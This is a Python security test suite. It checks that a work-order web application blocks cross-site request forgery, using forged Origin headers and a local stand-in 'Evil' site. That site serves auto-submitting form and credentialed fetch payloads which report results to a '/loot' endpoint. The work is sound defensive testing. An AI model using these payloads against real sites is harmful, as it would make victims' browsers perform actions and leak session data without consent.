"""What another site's page makes a visitor's browser send changes nothing here (ASVS V3.5)."""

import asyncio
import json
import re
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web

from chassis.testing import until
from deploy.demo.town import Town
from deploy.embedded import paths
from tests.browser.fixtures import Allow, OfficePage
from tests.security.wire import ABSENT, Wire

pytestmark = [pytest.mark.journey, pytest.mark.timeout(600)]

OPENAPI = paths.REPO / "contracts" / "gen" / "openapi" / "openapi.json"
CHANGES = {"post", "put", "delete", "patch"}
FROM_ELSEWHERE = {
    "another site": {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
    "another port": {"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"},
    "origin alone": {"Origin": "https://evil.example"},
    "a sandboxed frame": {"Origin": "null"},
    "nothing said": {"Origin": ABSENT},
    "a look-alike": {"Origin": "HOST.evil.example"},
    "a lie about the fetch": {"Origin": "https://evil.example", "Sec-Fetch-Site": "none"},
}


def changing_routes(path: Path = OPENAPI) -> Iterator[tuple[str, str]]:
    """Every (method, address) by which something is changed, with ids in their places."""
    for address, methods in json.loads(path.read_text("utf-8"))["paths"].items():
        for method in CHANGES & set(methods):
            yield method.upper(), re.sub(r"\{\w+\}", lambda _: str(uuid.uuid4()), address)


async def test_no_route_takes_a_change_that_a_foreign_page_may_have_caused(
    wire: Wire, town: Town
) -> None:
    session = await wire.session_of("orlov")
    routes = sorted(changing_routes())
    let_through = []
    for method, address in routes:
        for what, headers in FROM_ELSEWHERE.items():
            sent = {k: v.replace("HOST", town.base) for k, v in headers.items()}
            answer = await wire.ask(method, address, body={}, session=session, headers=sent)
            if answer.status != 403 or json.loads(answer.body)["code"] != "cross-site-request":
                let_through.append(f"{method} {address} from {what}: {answer.status}")

    assert len(routes) > 40
    assert let_through == []


async def test_our_own_page_and_programs_with_a_token_are_let_through(
    wire: Wire, town: Town
) -> None:
    session = await wire.session_of("sokolova")
    own = {"Sec-Fetch-Site": "same-origin"}
    token = {"Authorization": f"Bearer {town.tablet_token}", "Origin": "https://evil.example"}

    body = {"client_id": town.cast.clients["ivanova"], "items": []}

    placed = await wire.ask("POST", "/api/work-orders", body=body, session=session, headers=own)
    tablet = await wire.ask("POST", f"/api/work-orders/{uuid.uuid4()}/receive", headers=token)

    assert placed.status == 201
    assert json.loads(tablet.body)["code"] != "cross-site-request"


@pytest_asyncio.fixture
async def evil() -> AsyncIterator["Evil"]:
    """Another site, on another host name of this machine."""
    site = Evil()
    runner = web.AppRunner(site.app)
    await runner.setup()
    door = web.TCPSite(runner, "127.0.0.1", 0)
    await door.start()
    # The same machine by another name is another site, and keeps other cookies.
    site.url = f"http://localhost:{runner.addresses[0][1]}"
    yield site
    await runner.cleanup()


class Evil:
    """Its pages try to act as the person whose browser they are open in."""

    def __init__(self) -> None:
        self.app = web.Application()
        self.app.router.add_get("/", self._page)
        self.app.router.add_get("/loot", self._loot)
        self.url = ""
        self.script = ""
        self.loot: list[str] = []

    async def _page(self, _: web.Request) -> web.Response:
        return web.Response(text=self.script, content_type="text/html")

    async def _loot(self, request: web.Request) -> web.Response:
        self.loot.append(request.query.get("what", ""))
        return web.Response()


FORM = """<form method=post action="{base}{path}" enctype=text/plain>
<input name='{{"items":[],"x":"' value='"}}'></form>
<script>document.forms[0].submit()</script>"""
FETCH = """<script>
const told = what => fetch("/loot?what=" + encodeURIComponent(what));
(async () => {{
  const ways = {{
    read: () => fetch("{base}/api/session", {{ credentials: "include" }}).then(a => a.text()),
    write: () => fetch("{base}{path}", {{
      method: "POST", credentials: "include", mode: "no-cors", body: '{{"items":[]}}',
    }}).then(a => a.type === "opaque" ? "opaque" : a.text()),
    json: () => fetch("{base}{path}", {{
      method: "POST", credentials: "include", body: '{{"items":[]}}',
      headers: {{ "Content-Type": "application/json", "Idempotency-Key": "k" }},
    }}).then(a => a.text()),
    frame: () => new Promise(done => {{
      const frame = document.createElement("iframe");
      frame.src = "{base}/";
      frame.onload = () => {{
        try {{ done("in " + frame.contentDocument.title); }} catch (error) {{ done("shut"); }}
      }};
      document.body.append(frame);
    }}),
    script: () => new Promise(done => {{
      const tag = document.createElement("script");
      tag.src = "{base}/api/session";
      tag.onload = () => done("loaded");
      tag.onerror = () => done("shut");
      document.body.append(tag);
    }}),
    stream: () => new Promise(done => {{
      const source = new EventSource("{base}/api/feed", {{ withCredentials: true }});
      source.onopen = () => done("open");
      source.onerror = () => done("shut");
    }}),
  }};
  for (const [name, way] of Object.entries(ways)) {{
    await told(name + ": " + await way().catch(() => "shut"));
  }}
  await told("end");
}})();
</script><body></body>"""


async def orders_now(town: Town) -> Any:
    """How many orders there are."""
    return await town.cast.desks["Л"].get("/api/work-orders/counts")


async def test_a_foreign_page_in_the_browser_of_a_manager_does_nothing(
    office_page: OfficePage, evil: Evil, town: Town, allow: Allow
) -> None:
    allow(
        "localhost", "CORS", "403", "frame-ancestors", "401", "favicon", "ERR_BLOCKED", "ERR_FAILED"
    )
    page = await office_page("sokolova")
    before = await orders_now(town)

    evil.script = FETCH.format(base=town.base, path="/api/work-orders")
    await page.goto(evil.url)

    async def ended() -> bool:
        return "end" in evil.loot

    await until(ended, seconds=30)
    evil.script = FORM.format(base=town.base, path="/api/work-orders")
    async with page.expect_navigation():
        await page.goto(evil.url)
    await page.wait_for_url(f"{town.base}/**")
    shown = await page.locator("body").inner_text()

    said = dict(line.split(": ", 1) for line in evil.loot if ": " in line)
    # A request without CORS goes out and its answer is opaque; that it changed nothing is below.
    assert said == {
        "read": "shut",
        "write": said["write"],
        "json": "shut",
        "frame": "shut",
        "script": "shut",
        "stream": "shut",
    }
    assert said["write"] in {"opaque", "shut"}
    assert "cross-site-request" in shown
    assert await orders_now(town) == before
    still = await page.context.request.get(f"{town.base}/api/session")
    assert still.status == 200


async def test_the_other_site_is_able_to_do_it_where_nobody_guards(
    office_page: OfficePage, evil: Evil, allow: Allow
) -> None:
    """The attack works: against itself, an unguarded site, the same page reads and writes."""
    allow("404", "405", "ERR", "EventSource", "MIME")
    page = await office_page(None)
    evil.script = (
        FETCH.format(base=evil.url, path="/loot")
        .replace('"POST"', '"GET"')
        .replace("body: '{\"items\":[]}',", "")
    )
    await page.goto(evil.url)

    async def ended() -> bool:
        return "end" in evil.loot

    await until(ended, seconds=30)
    said = dict(line.split(": ", 1) for line in evil.loot if ": " in line)
    assert said["frame"].startswith("in ")
    assert said["json"] == ""
    await asyncio.gather()
